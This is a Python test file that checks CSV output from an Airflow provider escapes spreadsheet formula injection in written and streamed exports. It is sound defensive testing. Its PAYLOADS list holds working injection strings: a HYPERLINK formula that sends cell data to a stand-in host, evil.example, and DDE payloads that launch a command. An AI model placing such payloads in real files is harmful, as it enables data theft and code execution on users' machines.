"""Spreadsheet formula injection (OWASP "CSV Injection") in the CSV files the pulls write.

A person's field that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return (or NUL) would run
as a formula when the file is opened in a spreadsheet. By default every such text cell is written
with a leading ``'`` (shown as text), in the CSV the provider writes (``method="results"``) and in
the API's ``export.csv`` as it streams through (``method="export"``, any chunking); numbers and
phone numbers (``+1 534 555 0100``, ``-12.5``) are left as they are; ``csv_formulas="keep"``
writes every cell as it came. Read back with the ``csv`` module.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from airflow_provider_leadpipe.utils.csv_rows import CsvEncoder, FormulaEscaper, RowCounter
from tests.hardening.figures import tally

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\0"]  # OWASP; NUL from ASVS 1.2.10
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
    "+",
]
KEPT = ["+1 534 555 0100", "+1 (534) 555-0100", "-12.5", "534.555.0100", "a=b", "plain", "", "'=already"]

cells = st.one_of(
    st.sampled_from(PAYLOADS + KEPT),
    st.tuples(st.sampled_from(TRIGGERS), st.text(max_size=6)).map("".join),
    st.text(max_size=6),
)


def _expected(cell: str) -> str:
    """OWASP's escape, written out: a trigger first, unless only digits, spaces and + - ( ) . /."""
    numberlike = any(c.isdigit() for c in cell) and all(c in "0123456789 +-()./" for c in cell[1:])
    numberlike = numberlike and (cell[0].isdigit() or cell[0] in "+-( ./")
    return f"'{cell}" if cell[:1] in TRIGGERS and not numberlike else cell


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_the_listed_payloads_are_escaped_and_phone_numbers_kept():
    people = [{"email": "a@x.io", "note": cell} for cell in PAYLOADS + KEPT]
    rows = _read(CsvEncoder().encode(people))
    assert [row[1] for row in rows[1:]] == [f"'{cell}" for cell in PAYLOADS] + KEPT
    kept = _read(CsvEncoder("keep").encode(people))
    assert [row[1] for row in kept[1:]] == PAYLOADS + KEPT


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(cells, min_size=2, max_size=2), min_size=1, max_size=6))
def test_every_written_cell_is_escaped_by_default(pairs):
    people = [{"name": name, "company": {"name": company}} for name, company in pairs]
    rows = _read(CsvEncoder().encode(people))
    assert rows[0] == ["name", "company.name"]
    assert rows[1:] == [[_expected(a), _expected(b)] for a, b in pairs]
    tally("files", "CSV cells of written people: OWASP formula triggers escaped, numbers and phones kept")


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.lists(cells, min_size=3, max_size=3), min_size=1, max_size=8),
    st.sampled_from(["\n", "\r\n"]),
    st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
    st.lists(st.integers(1, 40), min_size=1, max_size=20),
)
def test_the_api_export_is_escaped_as_it_streams_in_any_chunks(records, terminator, quoting, cuts):
    # A valid export: a lone CR in a cell is quoted (Python's minimal quoting with "\n" would not).
    assume(quoting == csv.QUOTE_ALL or terminator == "\r\n" or not any("\r" in c for r in records for c in r))
    source = io.StringIO()
    writer = csv.writer(source, lineterminator=terminator, quoting=quoting)
    writer.writerows([["email", "phone", "note"], *records])
    data = source.getvalue().encode()
    escaper, out, counted, start = FormulaEscaper(), b"", RowCounter(), 0
    for cut in cuts * (len(data) // sum(cuts) + 1):
        chunk, start = data[start : start + cut], start + cut
        counted.feed(chunk)
        out += escaper.feed(chunk)
    out += escaper.finish()
    assert _read(out) == [["email", "phone", "note"], *[[_expected(c) for c in r] for r in records]]
    assert counted.records == len(records)
    assert out.endswith(terminator.encode())
    tally(
        "files", "export.csv streamed in random chunks: formula cells escaped, records and line endings kept"
    )


@pytest.mark.parametrize("cell", PAYLOADS)
def test_an_escaped_cell_is_text_to_a_spreadsheet(cell):
    """What a spreadsheet sees: the cell no longer begins with a trigger."""
    (row,) = _read(CsvEncoder().encode([{"x": cell}]))[1:]
    assert row[0][:1] not in TRIGGERS and row[0] == f"'{cell}"
